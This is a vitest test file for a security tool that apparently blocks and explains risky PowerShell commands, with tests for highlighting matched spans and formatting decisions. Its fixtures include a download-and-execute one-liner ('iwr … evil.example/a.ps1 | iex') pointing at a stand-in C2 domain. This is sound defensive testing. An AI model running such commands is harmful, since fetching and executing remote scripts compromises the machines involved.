import { describe, expect, it } from 'vitest';
import type { PolicyInput } from '../../shared/policy/types';
import { buildContext } from './evaluate-stream';
import { formatExplanation, formatMarkedText } from './explain';
import { fakeEvaluate } from './fake-evaluator';

const input = (text: string): PolicyInput => ({
  text,
  shell: 'powershell',
  platform: 'windows',
  context: buildContext({
    trust: 'standard',
    blockedDestinations: [{ id: 'r', kind: 'domain', value: 'evil.example', reason: 'C2' }],
    now: 0,
  }),
});

describe('formatMarkedText', () => {
  it('underlines each reason’s spans with its number on the next line', () => {
    expect(formatMarkedText('irm x | iex', [[{ start: 8, end: 11 }], [{ start: 0, end: 3 }]])).toBe('1 | irm x | iex\n  | 222     111');
  });
  it('marks overlaps with ^ and handles multi-line text and tabs', () => {
    expect(formatMarkedText('a\tb\nccc', [[{ start: 0, end: 6 }], [{ start: 5, end: 7 }]])).toBe('1 | a b\n  | 111\n2 | ccc\n  | 1^2');
  });
  it('clamps spans outside the text', () => {
    expect(formatMarkedText('ab', [[{ start: -3, end: 99 }]])).toBe('1 | ab\n  | 11');
  });
  it('shows only marked lines (with context) of a long script', () => {
    const text = Array.from({ length: 40 }, (_, i) => `line ${i + 1}`).join('\n');
    const at = text.indexOf('line 30');
    const out = formatMarkedText(text, [[{ start: at, end: at + 4 }]]);
    expect(out.split('\n')).toEqual(['   …', '29 | line 29', '30 | line 30', '   | 1111', '31 | line 31', '   …']);
  });
});

describe('formatExplanation', () => {
  it('names the decision, each reason with message and remedy, and marks the spans', () => {
    const text = 'iwr https://cdn.evil.example/a.ps1 | iex';
    const out = formatExplanation(text, fakeEvaluate(input(text)));
    expect(out).toMatch(/^Decision: BLOCK/);
    expect(out).toContain('[1] download_execute (block, rule fake.iex)');
    expect(out).toContain('Remedy: a supervisor can grant extended trust');
    expect(out).toContain('[2] blocked_destination');
    expect(out).toContain('domain rule "evil.example" (reason: C2)');
    expect(out).toContain('Remedy: remove the destination');
    expect(out).toContain(`1 | ${text}\n  |     ${'2'.repeat(30)}   111`);
  });
  it('says so when nothing matched', () => {
    expect(formatExplanation('Get-Service', fakeEvaluate(input('Get-Service')))).toContain('No reasons');
  });
});
